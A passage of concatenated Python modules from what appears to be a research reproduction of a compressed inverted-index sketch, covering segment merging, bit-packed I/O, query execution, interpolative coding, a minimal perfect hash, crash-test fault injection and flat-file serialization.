        return build_immutable(merged, sig_bits=self.sig_bits,
                               plane_budget_bytes=self.plane_budget)

    def finish_segments(self) -> list[ImmutableSketch]:
        """Multi-segment finish: every spill (plus the live sketch) becomes
        its OWN immutable sketch — no monolithic merge.  Queries fan out
        over the per-segment sketches and OR their per-token bitmaps
        (core.query_engine.QueryEngine); posting ids stay global, so the
        union of a token's per-segment posting sets equals the monolithic
        posting set."""
        return [build_immutable(p, sig_bits=self.sig_bits,
                                plane_budget_bytes=self.plane_budget)
                for p in self._all_parts()]

    def _all_parts(self) -> list[SealedContent]:
        parts = list(self.temporaries)
        if self.sketch.stats.tokens:
            parts.append(self.sketch.seal())
        return parts


def merge_sealed(parts: list[SealedContent]) -> SealedContent:
    """Union of (fingerprint, posting) pairs across temporary segments,
    re-deduplicated — semantically the paper's merge-into-one-mutable-sketch.

    Fully vectorized: instead of materializing one (fp, postings) chunk
    pair per token (the old per-token ``np.full`` loop dominated
    ``finish()`` for online-mode ingest), each part expands through
    ``np.repeat`` over its per-token list lengths plus one flat gather."""
    if not parts:
        return SealedContent(fps=np.empty(0, np.uint32),
                             list_ids=np.empty(0, np.int64), lists=[],
                             refcounts=np.empty(0, np.int64), n_postings=0)
    fp_chunks, post_chunks = [], []
    stats: dict = {}
    for part in parts:
        if len(part.fps):
            list_lens = np.asarray([len(l) for l in part.lists], np.int64)
            flat = (np.concatenate([np.asarray(l, np.int64)
                                    for l in part.lists])
                    if list_lens.sum() else np.empty(0, np.int64))
            offsets = np.concatenate([[0], np.cumsum(list_lens)])
            tok_lens = list_lens[part.list_ids]
            total = int(tok_lens.sum())
            # flat indices: for token t, offsets[list_ids[t]] + [0..len)
            ends = np.cumsum(tok_lens)
            local = np.arange(total, dtype=np.int64) \
                - np.repeat(ends - tok_lens, tok_lens)
            gather = np.repeat(offsets[part.list_ids], tok_lens) + local
            fp_chunks.append(np.repeat(part.fps, tok_lens))
            post_chunks.append(flat[gather])
        for k, v in part.stats.items():
            if isinstance(v, (int, float)):
                stats[k] = stats.get(k, 0) + v
    if not fp_chunks:
        return SealedContent(fps=np.empty(0, np.uint32),
                             list_ids=np.empty(0, np.int64), lists=[],
                             refcounts=np.empty(0, np.int64), n_postings=0,
                             stats=stats)
    return build_sealed(np.concatenate(fp_chunks),
                        np.concatenate(post_chunks), stats)
