"""Little-endian bit stream over uint32 words (shared by CSF and BIC).

Bit ``b`` of the stream lives in word ``b >> 5`` at in-word position
``b & 31``.  This layout lets the device read any <=32-bit code with two
word gathers and two shifts — the zero-deserialization property the paper
gets from mmap'd byte buffers (§4.2).
"""
from __future__ import annotations

import numpy as np


class BitWriter:
    def __init__(self):
        self.words: list[int] = []
        self.bitpos = 0

    def write(self, value: int, nbits: int) -> None:
        if nbits == 0:
            return
        if nbits < 0 or nbits > 32:
            raise ValueError(f"nbits={nbits} out of range")
        value &= (1 << nbits) - 1
        word = self.bitpos >> 5
        off = self.bitpos & 31
        while word >= len(self.words):
            self.words.append(0)
        self.words[word] |= (value << off) & 0xFFFFFFFF
        spill = off + nbits - 32
        if spill > 0:
            if word + 1 >= len(self.words):
                self.words.append(0)
            self.words[word + 1] |= value >> (nbits - spill)
        self.bitpos += nbits

    def array(self) -> np.ndarray:
        arr = np.asarray(self.words, dtype=np.uint64).astype(np.uint32)
        if arr.size == 0:
            arr = np.zeros(1, dtype=np.uint32)
        return arr


class BitReader:
    def __init__(self, words: np.ndarray, bitpos: int = 0):
        self.words = np.asarray(words, dtype=np.uint32)
        self.bitpos = bitpos

    def read(self, nbits: int) -> int:
        v = peek_bits(self.words, self.bitpos, nbits)
        self.bitpos += nbits
        return v


def peek_bits(words: np.ndarray, bitpos: int, nbits: int) -> int:
    """Read ``nbits`` (<=32) at absolute ``bitpos`` — host reference for the
    device-side two-gather read."""
    if nbits == 0:
        return 0
    word = bitpos >> 5
    off = bitpos & 31
    lo = int(words[word]) >> off
    if off + nbits > 32:
        lo |= int(words[word + 1]) << (32 - off)
    return lo & ((1 << nbits) - 1)


def pack_fixed_width(values: np.ndarray, nbits: int) -> np.ndarray:
    """Vectorized BitWriter for fixed-width codes: packs ``values[i]`` at
    bit position ``i * nbits``.  Bit-identical to writing each value with
    :class:`BitWriter` (little-endian u32 words)."""
    if not 0 < nbits <= 32:
        raise ValueError(f"nbits={nbits} out of range")
    values = np.asarray(values, dtype=np.uint64) \
        & np.uint64((1 << nbits) - 1)
    n = values.size
    total_bits = n * nbits
    n_words = max((total_bits + 31) // 32, 1)
    words = np.zeros(n_words + 1, dtype=np.uint32)  # +1: spill headroom
    bitpos = np.arange(n, dtype=np.int64) * nbits
    word = bitpos >> 5
    off = (bitpos & 31).astype(np.uint64)
    shifted = values << off                      # <= 63 bits used
    np.bitwise_or.at(words, word,
                     (shifted & np.uint64(0xFFFFFFFF)).astype(np.uint32))
    np.bitwise_or.at(words, word + 1,
                     (shifted >> np.uint64(32)).astype(np.uint32))
    return words[:n_words]


def pack_bitmap_planes(lists, n_postings: int) -> np.ndarray:
    """Vectorized dense-bitmap builder: ``lists[r]`` (sorted int64 posting
    ids) becomes row ``r`` of an (L, ceil(P/32)) u32 plane matrix."""
    n_lists = len(lists)
    words = (max(n_postings, 1) + 31) // 32
    planes = np.zeros((n_lists, words), dtype=np.uint32)
    if n_lists == 0:
        return planes
    lengths = np.asarray([len(l) for l in lists], dtype=np.int64)
    if lengths.sum() == 0:
        return planes
    flat = np.concatenate([np.asarray(l, dtype=np.int64) for l in lists])
    row = np.repeat(np.arange(n_lists, dtype=np.int64), lengths)
    np.bitwise_or.at(planes.reshape(-1), row * words + (flat >> 5),
                     np.uint32(1) << (flat & 31).astype(np.uint32))
    return planes


def np_peek_bits(words: np.ndarray, bitpos: np.ndarray, nbits: np.ndarray
                 ) -> np.ndarray:
    """Vectorized bit-field gather: out[i] = bits[bitpos[i] : +nbits[i]]."""
    bitpos = bitpos.astype(np.int64)
    nbits = nbits.astype(np.int64)
    word = bitpos >> 5
    off = (bitpos & 31).astype(np.uint32)
    w0 = words[word].astype(np.uint64)
    w1 = words[np.minimum(word + 1, words.size - 1)].astype(np.uint64)
    combined = (w0 >> off) | np.where(off > 0, w1 << (np.uint32(32) - off),
                                      np.uint64(0))
    mask = (np.uint64(1) << nbits.astype(np.uint64)) - np.uint64(1)
    return (combined & mask).astype(np.uint32)
