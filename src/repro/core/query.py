"""Query execution (Algorithm 3) with posting-consumer early exit.

Works identically on mutable and immutable sketches via a tiny adapter
(``is_present`` / ``acquire_list`` / ``decode``).  Unique posting lists are
decoded once even when several query tokens share a list (§4.4).
"""
from __future__ import annotations

import numpy as np

from .hashing import token_fingerprint
from .immutable_sketch import ImmutableSketch
from .mutable_sketch import MutableSketch


class PostingsConsumer:
    """Combines per-token posting lists; can stop the query early."""

    def accept(self, postings: np.ndarray) -> None:
        raise NotImplementedError

    def should_stop(self) -> bool:
        return False

    def result(self) -> np.ndarray:
        raise NotImplementedError


class AndConsumer(PostingsConsumer):
    """Batches containing ALL query tokens (the needle-in-haystack mode)."""

    def __init__(self):
        self._acc: np.ndarray | None = None
        self._empty = False

    def accept(self, postings: np.ndarray) -> None:
        if self._empty:
            return
        if postings.size == 0:
            self._acc = np.empty(0, dtype=np.int64)
            self._empty = True
            return
        if self._acc is None:
            self._acc = np.asarray(postings, dtype=np.int64)
        else:
            self._acc = np.intersect1d(self._acc, postings, assume_unique=True)
            if self._acc.size == 0:
                self._empty = True

    def should_stop(self) -> bool:
        return self._empty

    def result(self) -> np.ndarray:
        return self._acc if self._acc is not None else np.empty(0, np.int64)


class OrConsumer(PostingsConsumer):
    """Batches containing ANY query token."""

    def __init__(self):
        self._parts: list[np.ndarray] = []

    def accept(self, postings: np.ndarray) -> None:
        if postings.size:
            self._parts.append(np.asarray(postings, dtype=np.int64))

    def result(self) -> np.ndarray:
        if not self._parts:
            return np.empty(0, np.int64)
        return np.unique(np.concatenate(self._parts))


class _MutableAdapter:
    def __init__(self, sk: MutableSketch):
        self.sk = sk

    def probe(self, fp: int):
        postings = self.sk.acquire_postings(fp)
        if postings is None:
            return None
        # the mutable sketch's unique-list identity is the list object id;
        # direct-encoded entries are keyed by their single posting value.
        entry = self.sk.token_map[fp]
        key = ("d", entry[1]) if entry[0] == 0 else ("l", id(entry[1]))
        return key, postings


class _ImmutableAdapter:
    def __init__(self, sk: ImmutableSketch):
        self.sk = sk

    def probe(self, fp: int):
        present, rank = self.sk.probe_fp_scalar(fp)
        if not present:
            return None
        return int(rank), None  # decode lazily


def execute_query(sketch, tokens, consumer: PostingsConsumer
                  ) -> PostingsConsumer:
    """Algorithm 3: probe each token, then decode each unique list once."""
    adapter = (_ImmutableAdapter(sketch) if isinstance(sketch, ImmutableSketch)
               else _MutableAdapter(sketch))
    unique: dict = {}
    for t in tokens:
        fp = token_fingerprint(t) if isinstance(t, (bytes, bytearray)) else int(t)
        hit = adapter.probe(fp)
        if hit is None:
            consumer.accept(np.empty(0, np.int64))  # notify empty (§4.4)
            if consumer.should_stop():
                return consumer
        else:
            key, postings = hit
            unique.setdefault(key, postings)
    for key, postings in unique.items():
        if postings is None:  # immutable: decode unique list once
            postings = sketch.postings_for_rank(key)
        consumer.accept(postings)
        if consumer.should_stop():
            return consumer
    return consumer


def query_and(sketch, tokens) -> np.ndarray:
    return execute_query(sketch, tokens, AndConsumer()).result()


def query_or(sketch, tokens) -> np.ndarray:
    return execute_query(sketch, tokens, OrConsumer()).result()
