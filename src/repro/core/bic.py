"""Binary Interpolative Coding of posting lists (§4.2, paper's [28]).

Encodes a sorted list of distinct posting ids within a known universe
[0, n_postings).  The middle element is written with
``ceil(log2(range_size))`` bits (its feasible range shrinks by the number
of elements that must fit on each side), then both halves recurse.  Exact,
bit-aligned, <1 bit/posting on clustered lists.

BIC decode is branchy, sequential bit IO — deliberately kept host-side
(see DESIGN.md §3): the paper itself argues decode cost is masked by the
per-posting batch decompression it triggers.
"""
from __future__ import annotations

import numpy as np

from .bitio import BitReader, BitWriter


def _bits_for(range_size: int) -> int:
    """ceil(log2(range_size)) bits; 0 bits when the value is forced."""
    if range_size <= 1:
        return 0
    return int(range_size - 1).bit_length()


def bic_encode(postings: np.ndarray, lo: int, hi: int, writer: BitWriter) -> None:
    """Encode sorted distinct ``postings`` all within [lo, hi] (inclusive)."""
    stack = [(0, len(postings), lo, hi)]
    p = np.asarray(postings, dtype=np.int64)
    while stack:
        start, end, lo_, hi_ = stack.pop()
        n = end - start
        if n == 0:
            continue
        mid = start + (n >> 1)
        v = int(p[mid])
        left = mid - start          # elements that must fit in [lo_, v-1]
        right = end - mid - 1       # elements that must fit in [v+1, hi_]
        vmin = lo_ + left
        vmax = hi_ - right
        writer.write(v - vmin, _bits_for(vmax - vmin + 1))
        # push right first so left is processed first (LIFO)
        stack.append((mid + 1, end, v + 1, hi_))
        stack.append((start, mid, lo_, v - 1))


def bic_decode(count: int, lo: int, hi: int, reader: BitReader) -> np.ndarray:
    """Decode ``count`` postings from the stream; mirrors bic_encode."""
    out = np.empty(count, dtype=np.int64)
    stack = [(0, count, lo, hi)]
    while stack:
        start, end, lo_, hi_ = stack.pop()
        n = end - start
        if n == 0:
            continue
        mid = start + (n >> 1)
        left = mid - start
        right = end - mid - 1
        vmin = lo_ + left
        vmax = hi_ - right
        v = vmin + reader.read(_bits_for(vmax - vmin + 1))
        out[mid] = v
        stack.append((mid + 1, end, v + 1, hi_))
        stack.append((start, mid, lo_, v - 1))
    return out


def encode_lists(lists, n_postings: int) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Encode many lists into one bit stream.

    Returns (bitseq u32, bit_offsets int64 (L+1,), counts int64 (L,)).
    The offset table is the paper's rank->disk-offset map (§3.3) — tiny
    because lists are deduplicated.
    """
    w = BitWriter()
    offsets = [0]
    counts = []
    hi = max(n_postings - 1, 0)
    for lst in lists:
        lst = np.asarray(lst, dtype=np.int64)
        bic_encode(lst, 0, hi, w)
        offsets.append(w.bitpos)
        counts.append(len(lst))
    return (w.array(), np.asarray(offsets, dtype=np.int64),
            np.asarray(counts, dtype=np.int64))


def decode_list(bitseq: np.ndarray, bit_offsets: np.ndarray,
                counts: np.ndarray, rank: int, n_postings: int) -> np.ndarray:
    r = BitReader(bitseq, int(bit_offsets[rank]))
    return bic_decode(int(counts[rank]), 0, max(n_postings - 1, 0), r)
