"""BBHash-style minimal perfect hash function (§3.3/§4.2, paper's [20]).

Construction (host, numpy): a cascade of bit-vector levels of size
``gamma * |unresolved|``.  At each level every unresolved key hashes to one
position; positions hit exactly once become set bits (those keys are
resolved), collided keys fall through to the next level.  Keys left after
``max_levels`` go to a tiny sorted fallback array.

The minimal hash of a key resolved at level L with bit position p is
``rank(bits, level_offset[L] + p)`` — the number of set bits before it in
the concatenated level bit-vectors; fallback keys get the tail indices.

Query (device, jnp + the Pallas `sketch_probe` kernel): a handful of
gathers + popcounts over a flat u32 word array with a sampled rank
directory — no deserialization, mirroring the paper's mmap layout.
"""
from __future__ import annotations

from dataclasses import dataclass

import numpy as np

import jax.numpy as jnp

from .hashing import np_seeded_hash32

GAMMA_DEFAULT = 2.0
MAX_LEVELS_DEFAULT = 12
RANK_BLOCK_WORDS = 8  # one rank sample per 8 u32 words (256 bits)
_LEVEL_SEED = 0x5EED1E5


def _level_seed(level: int) -> int:
    return (_LEVEL_SEED * (level + 1)) & 0xFFFFFFFF


@dataclass
class MPHF:
    """Flat-buffer MPHF; all arrays are plain numpy and jnp-convertible."""
    words: np.ndarray            # (W,) uint32 concatenated level bit-vectors
    level_word_offset: np.ndarray  # (L+1,) int32 word offset of each level
    level_bits: np.ndarray       # (L,) int32 m_l — bit-vector size per level
    block_rank: np.ndarray       # (ceil(W/8),) uint32 popcount before block
    fallback_fps: np.ndarray     # (F,) uint32 sorted fingerprints
    fallback_idx: np.ndarray     # (F,) int64 minimal-hash values
    n_keys: int
    n_rank_bits: int             # set bits across levels (= n_keys - F)

    @property
    def n_levels(self) -> int:
        return len(self.level_bits)

    def size_bits(self) -> int:
        return (self.words.size * 32 + self.block_rank.size * 32
                + self.fallback_fps.size * 96
                + self.level_word_offset.size * 32 + self.level_bits.size * 32)

    # ---- numpy batch query ---------------------------------------------------
    def lookup_np(self, fps: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
        """Returns (idx int64, definitely_absent bool).  For keys in the
        construction set, idx is their unique minimal hash.  For other keys
        idx is arbitrary unless definitely_absent is True."""
        fps = np.asarray(fps, dtype=np.uint32)
        idx = np.zeros(fps.shape, dtype=np.int64)
        found = np.zeros(fps.shape, dtype=bool)
        for lvl in range(self.n_levels):
            m = int(self.level_bits[lvl])
            if m == 0:
                continue
            pos = np_seeded_hash32(fps, _level_seed(lvl)) % np.uint32(m)
            gbit = pos.astype(np.int64) + (int(self.level_word_offset[lvl]) << 5)
            word = gbit >> 5
            hit = (self.words[word] >> (gbit & 31).astype(np.uint32)) & 1
            hit = hit.astype(bool) & ~found
            if hit.any():
                idx[hit] = self._rank_np(gbit[hit])
                found |= hit
        # fallback
        if self.fallback_fps.size:
            fpos = np.searchsorted(self.fallback_fps, fps)
            fpos = np.minimum(fpos, self.fallback_fps.size - 1)
            fhit = (self.fallback_fps[fpos] == fps) & ~found
            idx[fhit] = self.fallback_idx[fpos[fhit]]
            found |= fhit
        return idx, ~found

    # ---- scalar query (single-token fast path) -----------------------------
    def lookup_scalar(self, fp: int) -> tuple[int, bool]:
        """Pure-python-int probe: ~5 us/key vs ~1 ms for a 1-element numpy
        batch (per-call dispatch overhead).  Measured 40x on the paper's
        term(ID) scenario — EXPERIMENTS.md §Perf (sketch)."""
        from .hashing import scalar_seeded_hash32
        words = self.words
        for lvl in range(self.n_levels):
            m = int(self.level_bits[lvl])
            if m == 0:
                continue
            pos = scalar_seeded_hash32(fp, _level_seed(lvl)) % m
            gbit = pos + (int(self.level_word_offset[lvl]) << 5)
            w = gbit >> 5
            if (int(words[w]) >> (gbit & 31)) & 1:
                block = w >> 3
                r = int(self.block_rank[block])
                for j in range(block << 3, w):
                    r += int(words[j]).bit_count()
                r += (int(words[w]) & ((1 << (gbit & 31)) - 1)).bit_count()
                return r, False
        if self.fallback_fps.size:
            p = int(np.searchsorted(self.fallback_fps, np.uint32(fp)))
            if p < self.fallback_fps.size \
                    and int(self.fallback_fps[p]) == fp:
                return int(self.fallback_idx[p]), False
        return 0, True

    def _rank_np(self, gbit: np.ndarray) -> np.ndarray:
        """Rank of a set bit: sampled block rank + popcounts of the residual
        words, fully vectorized — one (N, 8) gather + popcount for the words
        before the target, one masked popcount for the partial word (the old
        per-word loop paid 8 gathers and 16 popcount passes per batch)."""
        gbit = np.asarray(gbit, dtype=np.int64)
        word = gbit >> 5
        block = word >> 3
        base = block << 3
        cols = base[:, None] + np.arange(RANK_BLOCK_WORDS, dtype=np.int64)
        pc = _popcount32_np(self.words[np.minimum(cols, self.words.size - 1)])
        before = cols < word[:, None]
        part = _popcount32_np(
            self.words[word]
            & ((np.uint32(1) << (gbit & 31).astype(np.uint32)) - np.uint32(1)))
        return (self.block_rank[block].astype(np.int64)
                + (pc * before).sum(axis=1) + part)

    # ---- jnp batch query -------------------------------------------------------
    def device_arrays(self) -> dict:
        # fb_count makes the fallback resolution data-driven (one traced
        # body whether or not this MPHF has fallback keys); the empty pad
        # is 0xFFFFFFFF so padded fallback arrays stay sorted when stacked
        # segments pad to a common length.
        return dict(
            words=jnp.asarray(self.words),
            block_rank=jnp.asarray(self.block_rank),
            level_word_offset=jnp.asarray(self.level_word_offset),
            level_bits=jnp.asarray(self.level_bits),
            fallback_fps=jnp.asarray(
                self.fallback_fps if self.fallback_fps.size else
                np.full(1, 0xFFFFFFFF, np.uint32)),
            fallback_idx=jnp.asarray(
                (self.fallback_idx if self.fallback_idx.size else
                 np.zeros(1, np.int64)).astype(np.int32)),
            fb_count=jnp.asarray(self.fallback_fps.size, jnp.int32),
        )

    def lookup_jnp(self, fps, arrs=None):
        """jnp mirror of :meth:`lookup_np` (oracle for the probe kernel)."""
        from .hashing import seeded_hash32
        if arrs is None:
            arrs = self.device_arrays()
        words = arrs["words"]
        fps = fps.astype(jnp.uint32)
        idx = jnp.zeros(fps.shape, dtype=jnp.int32)
        found = jnp.zeros(fps.shape, dtype=bool)
        for lvl in range(self.n_levels):
            m = int(self.level_bits[lvl])
            if m == 0:
                continue
            pos = seeded_hash32(fps, _level_seed(lvl)) % jnp.uint32(m)
            gbit = pos.astype(jnp.int32) + (int(self.level_word_offset[lvl]) << 5)
            word = gbit >> 5
            hit = ((words[word] >> (gbit & 31).astype(jnp.uint32)) & 1)
            hit = hit.astype(bool) & ~found
            rank = self._rank_jnp(gbit, arrs)
            idx = jnp.where(hit, rank, idx)
            found = found | hit
        if self.fallback_fps.size:
            fb_fps, fb_idx = arrs["fallback_fps"], arrs["fallback_idx"]
            fpos = jnp.clip(jnp.searchsorted(fb_fps, fps), 0, fb_fps.size - 1)
            fhit = (fb_fps[fpos] == fps) & ~found
            idx = jnp.where(fhit, fb_idx[fpos], idx)
            found = found | fhit
        return idx, ~found

    def _rank_jnp(self, gbit, arrs):
        words = arrs["words"]
        block_rank = arrs["block_rank"]
        word = gbit >> 5
        block = word >> 3
        r = block_rank[block].astype(jnp.int32)
        base = block << 3
        nw = words.shape[0]
        for j in range(RANK_BLOCK_WORDS):
            w = jnp.minimum(base + j, nw - 1)
            wv = words[w]
            pc = jax_popcount(wv).astype(jnp.int32)
            part_mask = (jnp.uint32(1) << (gbit & 31).astype(jnp.uint32)) - jnp.uint32(1)
            pc_part = jax_popcount(wv & part_mask).astype(jnp.int32)
            r = r + jnp.where(base + j < word, pc, 0)
            r = r + jnp.where(base + j == word, pc_part, 0)
        return r


def jax_popcount(x):
    import jax.lax as lax
    return lax.population_count(x.astype(jnp.uint32))


def _popcount32_np(x: np.ndarray) -> np.ndarray:
    x = x.astype(np.uint32, copy=True)
    x = x - ((x >> np.uint32(1)) & np.uint32(0x55555555))
    x = (x & np.uint32(0x33333333)) + ((x >> np.uint32(2)) & np.uint32(0x33333333))
    x = (x + (x >> np.uint32(4))) & np.uint32(0x0F0F0F0F)
    return ((x * np.uint32(0x01010101)) >> np.uint32(24)).astype(np.int64)


def build_mphf(keys: np.ndarray, *, gamma: float = GAMMA_DEFAULT,
               max_levels: int = MAX_LEVELS_DEFAULT) -> MPHF:
    keys = np.unique(np.asarray(keys, dtype=np.uint32))
    unresolved = keys
    level_words: list[np.ndarray] = []
    level_bits: list[int] = []
    assigned_key_order: list[np.ndarray] = []  # keys resolved per level
    assigned_pos: list[np.ndarray] = []
    for lvl in range(max_levels):
        if unresolved.size == 0:
            break
        m = int(np.ceil(gamma * unresolved.size))
        m = max(256, ((m + 255) // 256) * 256)  # word+block aligned
        pos = np_seeded_hash32(unresolved, _level_seed(lvl)) % np.uint32(m)
        counts = np.bincount(pos, minlength=m)
        once = counts == 1
        hit = once[pos]
        words = np.zeros(m >> 5, dtype=np.uint32)
        set_pos = pos[hit].astype(np.int64)
        np.bitwise_or.at(words, set_pos >> 5,
                         (np.uint32(1) << (set_pos & 31).astype(np.uint32)))
        level_words.append(words)
        level_bits.append(m)
        assigned_key_order.append(unresolved[hit])
        assigned_pos.append(set_pos)
        unresolved = unresolved[~hit]

    words = (np.concatenate(level_words) if level_words
             else np.zeros(8, dtype=np.uint32))
    # pad to a whole rank block
    pad = (-len(words)) % RANK_BLOCK_WORDS
    if pad:
        words = np.concatenate([words, np.zeros(pad, np.uint32)])
    level_word_offset = np.zeros(len(level_bits) + 1, dtype=np.int32)
    for i, m in enumerate(level_bits):
        level_word_offset[i + 1] = level_word_offset[i] + (m >> 5)

    pop = _popcount32_np(words)
    cum = np.concatenate([[0], np.cumsum(pop)]).astype(np.uint32)
    block_rank = cum[:-1][::RANK_BLOCK_WORDS].copy()
    n_rank_bits = int(cum[-1])

    fallback_order = np.argsort(unresolved, kind="stable")
    fallback_fps = unresolved[fallback_order]
    fallback_idx = (n_rank_bits + np.arange(unresolved.size)).astype(np.int64)
    # indices must follow sorted-fp order for reproducibility
    fallback_idx = fallback_idx  # already aligned with sorted order

    return MPHF(words=words,
                level_word_offset=level_word_offset,
                level_bits=np.asarray(level_bits, dtype=np.int32),
                block_rank=block_rank,
                fallback_fps=fallback_fps,
                fallback_idx=fallback_idx,
                n_keys=int(keys.size),
                n_rank_bits=n_rank_bits)
