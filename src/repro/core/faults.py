"""Fault injection for the durable store's crash contract.

The durability code (blob appends, segment publishes, manifest swaps)
calls :func:`fault_point` at every point where a process kill or an I/O
error changes what recovery sees.  In production nothing is armed and the
hook is a single global read; tests arm an injector with :func:`inject`
to kill (raise :class:`CrashError`) or fail (raise an injected
``OSError``) at an exact crashpoint, then reopen the store and assert the
recovery contract.

Crashpoints are *named* and *registered* so the crash-matrix test can
enumerate every one — an unregistered ``fault_point`` call is a bug (the
matrix would silently not cover it) and raises at hook time.
"""
from __future__ import annotations

import threading


class CrashError(BaseException):
    """A simulated process kill at a crashpoint.

    Deliberately a ``BaseException``: crash simulation must not be
    swallowed by ``except Exception`` recovery/retry code paths — a real
    ``kill -9`` cannot be caught either.
    """


#: Every registered crashpoint, in write-path order.  The crash-matrix
#: test parametrizes over this tuple; keep it in sync with the
#: ``fault_point`` call sites.
CRASHPOINTS = (
    "blob.append",         # before a blob's bytes reach the file
    "blob.append.torn",    # after a PARTIAL write, before the extent records
    "blob.fsync",          # before the blob file/dir fsync
    "segment.write",       # before a segment tmp file is written
    "segment.publish",     # after the tmp write, before its os.replace
    "manifest.tmp_write",  # before the manifest tmp is written
    "manifest.replace",    # after the tmp write, before its os.replace
    "manifest.dir_fsync",  # after the manifest rename, before the dir fsync
    "compact.mid_merge",   # segments merged in RAM, before the publish
)

_ACTIVE: "FaultInjector | None" = None


class FaultInjector:
    """One armed fault: fires when ``crash_at`` is hit.

    ``after`` skips that many hits first (crash at the Nth spill, not the
    first); ``times`` bounds how often it fires (transient errors that
    succeed on retry); ``error`` substitutes an exception instance for
    the default :class:`CrashError` kill.  ``hits`` records every hit of
    the armed point — fired or not — so tests can assert the point was
    actually reached.  Thread-safe: the background compactor hits
    crashpoints from its worker thread.
    """

    def __init__(self, *, crash_at: str, after: int = 0,
                 times: int | None = None,
                 error: BaseException | None = None):
        if crash_at not in CRASHPOINTS:
            raise ValueError(f"unknown crashpoint {crash_at!r}; "
                             f"registered: {CRASHPOINTS}")
        self.crash_at = crash_at
        self.after = after
        self.times = times
        self.error = error
        self.hits: list[int] = []
        self.fired = 0
        self._lock = threading.Lock()

    def check(self, name: str) -> None:
        if name != self.crash_at:
            return
        with self._lock:
            self.hits.append(len(self.hits) + 1)
            if len(self.hits) <= self.after:
                return
            if self.times is not None and self.fired >= self.times:
                return
            self.fired += 1
            err = self.error
        if err is not None:
            raise err
        raise CrashError(f"simulated kill at crashpoint {name!r} "
                         f"(hit #{len(self.hits)})")


def install(injector: FaultInjector | None) -> None:
    global _ACTIVE
    _ACTIVE = injector


def clear() -> None:
    install(None)


class inject:
    """``with inject(crash_at="manifest.replace") as inj: ...`` arms one
    injector process-wide for the block (always disarmed on exit, even
    when the simulated crash propagates out)."""

    def __init__(self, **kw):
        self.injector = FaultInjector(**kw)

    def __enter__(self) -> FaultInjector:
        install(self.injector)
        return self.injector

    def __exit__(self, *exc) -> bool:
        clear()
        return False


def fault_point(name: str) -> None:
    """Hook a durability-critical site.  No-op unless a test armed an
    injector; asserts the name is registered so the crash matrix always
    covers every site."""
    inj = _ACTIVE
    if inj is not None:
        if name not in CRASHPOINTS:
            raise AssertionError(f"unregistered crashpoint {name!r}")
        inj.check(name)
