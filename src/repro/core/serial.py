"""Single flat-file serialization of the immutable sketch (§4.2).

Layout: magic | header_len u32 | header JSON | 64-byte-aligned raw buffers.
The header holds every array's (dtype, shape, offset); opening a reader
parses only the header — the paper's "single disk page to open" property.
``load(mmap=True)`` maps buffers lazily via np.memmap.
"""
from __future__ import annotations

import json
import os

import numpy as np

from .csf import CompressedStaticFunction
from .immutable_sketch import ImmutableSketch
from .mphf import MPHF

MAGIC = b"DWRP0001"
ALIGN = 64

_MPHF_FIELDS = ["words", "level_word_offset", "level_bits", "block_rank",
                "fallback_fps", "fallback_idx"]
_CSF_FIELDS = ["bitseq", "lengths", "samples"]
_TOP_FIELDS = ["signatures", "bic_bits", "bic_offsets", "bic_counts"]


def save(sketch: ImmutableSketch, path: str, *, include_planes: bool = False
         ) -> int:
    arrays: dict[str, np.ndarray] = {}
    for f in _MPHF_FIELDS:
        arrays[f"mphf.{f}"] = np.ascontiguousarray(getattr(sketch.mphf, f))
    for f in _CSF_FIELDS:
        arrays[f"csf.{f}"] = np.ascontiguousarray(getattr(sketch.csf, f))
    for f in _TOP_FIELDS:
        arrays[f] = np.ascontiguousarray(getattr(sketch, f))
    if include_planes and sketch.planes is not None:
        arrays["planes"] = np.ascontiguousarray(sketch.planes)

    meta = dict(sig_bits=sketch.sig_bits, n_postings=sketch.n_postings,
                n_tokens=sketch.n_tokens,
                mphf_n_keys=sketch.mphf.n_keys,
                mphf_n_rank_bits=sketch.mphf.n_rank_bits,
                csf_n=sketch.csf.n, stats=sketch.stats)

    entries = {}
    offset = 0
    blobs = []
    for name, arr in arrays.items():
        offset = (offset + ALIGN - 1) // ALIGN * ALIGN
        entries[name] = dict(dtype=str(arr.dtype), shape=list(arr.shape),
                             offset=offset, nbytes=arr.nbytes)
        blobs.append((offset, arr))
        offset += arr.nbytes
    header = json.dumps(dict(meta=meta, arrays=entries)).encode()

    tmp = path + ".tmp"
    with open(tmp, "wb") as f:
        f.write(MAGIC)
        f.write(np.uint32(len(header)).tobytes())
        f.write(header)
        base = f.tell()
        base_aligned = (base + ALIGN - 1) // ALIGN * ALIGN
        f.write(b"\0" * (base_aligned - base))
        pos = 0
        for off, arr in blobs:
            f.write(b"\0" * (off - pos))
            f.write(arr.tobytes())
            pos = off + arr.nbytes
    os.replace(tmp, path)  # atomic publish (fault-tolerance contract)
    return os.path.getsize(path)


def load(path: str, *, mmap: bool = True) -> ImmutableSketch:
    with open(path, "rb") as f:
        if f.read(8) != MAGIC:
            raise ValueError(f"{path}: bad magic")
        hlen = int(np.frombuffer(f.read(4), np.uint32)[0])
        header = json.loads(f.read(hlen))
        base = f.tell()
    base_aligned = (base + ALIGN - 1) // ALIGN * ALIGN
    meta, entries = header["meta"], header["arrays"]

    def read_arr(name):
        if name not in entries:
            return None
        e = entries[name]
        dtype = np.dtype(e["dtype"])
        count = e["nbytes"] // dtype.itemsize
        if mmap:
            arr = np.memmap(path, dtype=dtype, mode="r",
                            offset=base_aligned + e["offset"], shape=(count,))
        else:
            with open(path, "rb") as f:
                f.seek(base_aligned + e["offset"])
                arr = np.frombuffer(f.read(e["nbytes"]), dtype=dtype).copy()
        return arr.reshape(e["shape"])

    mphf = MPHF(words=read_arr("mphf.words"),
                level_word_offset=read_arr("mphf.level_word_offset"),
                level_bits=read_arr("mphf.level_bits"),
                block_rank=read_arr("mphf.block_rank"),
                fallback_fps=read_arr("mphf.fallback_fps"),
                fallback_idx=read_arr("mphf.fallback_idx"),
                n_keys=meta["mphf_n_keys"],
                n_rank_bits=meta["mphf_n_rank_bits"])
    csf = CompressedStaticFunction(bitseq=read_arr("csf.bitseq"),
                                   lengths=read_arr("csf.lengths"),
                                   samples=read_arr("csf.samples"),
                                   n=meta["csf_n"])
    return ImmutableSketch(
        mphf=mphf, csf=csf, signatures=read_arr("signatures"),
        sig_bits=meta["sig_bits"], bic_bits=read_arr("bic_bits"),
        bic_offsets=read_arr("bic_offsets"), bic_counts=read_arr("bic_counts"),
        n_postings=meta["n_postings"], n_tokens=meta["n_tokens"],
        planes=read_arr("planes"), stats=meta.get("stats", {}))
